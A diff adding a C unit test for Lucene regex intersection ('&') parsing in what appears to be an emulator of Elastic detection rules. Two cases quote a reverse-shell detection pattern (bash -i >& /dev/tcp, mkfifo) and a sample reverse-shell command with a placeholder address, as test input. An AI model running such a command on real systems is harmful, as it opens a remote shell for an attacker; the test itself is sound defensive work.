@@ -1307,6 +1307,55 @@ static void test_lucene_bracket_escapes(void **state)
 	}
 }
 
+/* '&' is Lucene's intersection: ES|QL's RLikePattern compiles with RegExp.ALL, which holds
+ * RegExp.INTERSECTION (esql-core .../predicate/regex/RLikePattern.java, doCreateAutomaton; EQL's
+ * regex too). RegExp's grammar: interexp ::= concatexp [ '&' interexp ] inside a union's branch,
+ * so it binds looser than concatenation and tighter than '|', right to left; and parseConcatExp
+ * reads one item after '&' whatever it is, so a '|', ')' or '&' there is a character (Elastic's
+ * "bash\s+-i\s+>&|0>&1" is bash\s+-i\s+> intersected with the string "|0>" and so on: empty). */
+static void test_lucene_regex_intersection(void **state)
+{
+	(void)state;
+	static const struct {
+		const char *pat, *value;
+		int hit;
+	} cases[] = {
+	    {".*a.*&.*b.*", "xaxbx", 1}, /* both */
+	    {".*a.*&.*b.*", "xaxx", 0},  /* one */
+	    {"a.*&.*z|q", "abz", 1},     /* (a.*&.*z)|q */
+	    {"a.*&.*z|q", "q", 1},       /* | looser than & */
+	    {"a.*&.*z|q", "ab", 0},      /* */
+	    {"x(a+&aa)y", "xaay", 1},    /* inside a group, the same substring */
+	    {"x(a+&aa)y", "xay", 0},     /* */
+	    {"x(a+&aa)y", "xaaay", 0},   /* */
+	    {"(ab|a)(c|bc)&abc", "abc", 1},
+	    {"[a-z]+&.*o.*&....", "food", 1}, /* right to left, all three */
+	    {"[a-z]+&.*o.*&....", "fooda", 0},
+	    {"[a-z]+&.*o.*&....", "feed", 0},
+	    {"(a&b)*", "", 1}, /* an empty intersection repeated none */
+	    {"(a&b)*", "a", 0},
+	    {"a&|b", "a", 0},   /* a & the string "|b" */
+	    {"a&|b", "b", 0},   /* */
+	    {".*&|b", "|b", 1}, /* */
+	    {"A.*&.*Z", "AbZ", 1},
+	    /* Elastic's kubernetes reverse-shell alternatives: >& then | is > & "|0>" & "1" */
+	    {".*(bash\\s+-i\\s+>&|0>&1|>&\\s*/dev/tcp|mkfifo).*", "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1", 0},
+	    {".*(bash\\s+-i\\s+>&|0>&1|>&\\s*/dev/tcp|mkfifo).*", "mkfifo /tmp/f", 1},
+	};
+	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
+		const char *why;
+		pcre2_code *re = lucene_regex_compile(cases[i].pat, strlen(cases[i].pat), 0, &why);
+		if (!re)
+			fail_msg("case %zu: %s", i, why);
+		if (regex_match_whole(re, cases[i].value, strlen(cases[i].value)) != cases[i].hit)
+			fail_msg("case %zu: %s on %s", i, cases[i].pat, cases[i].value);
+		pcre2_code_free(re);
+	}
+	const char *why;
+	assert_null(lucene_regex_compile("a&", 2, 0, &why));
+	assert_string_equal(why, "invalid regular expression");
+}
+
 /* An ES|QL rule every second over 1,000,000 days: an execution with no row costs nothing, and
  * executions whose windows hold the same rows share one answer. It kept every execution's
  * rows (a copy of its window each) to the end: quadratic, 12.8 GB for 2,000 events. A row of
@@ -1876,6 +1925,7 @@ int main(void)
 	    T(test_esql_now_is_the_execution_time),
 	    T(test_esql_now_before_stats),
 	    cmocka_unit_test(test_lucene_bracket_escapes),
+	    cmocka_unit_test(test_lucene_regex_intersection),
 	    T(test_esql_long_schedule_costs_rows_not_executions),
 	    T(test_esql_bomb_stops_the_rule_with_an_error),
 	    T(test_types_not_run_say_why),
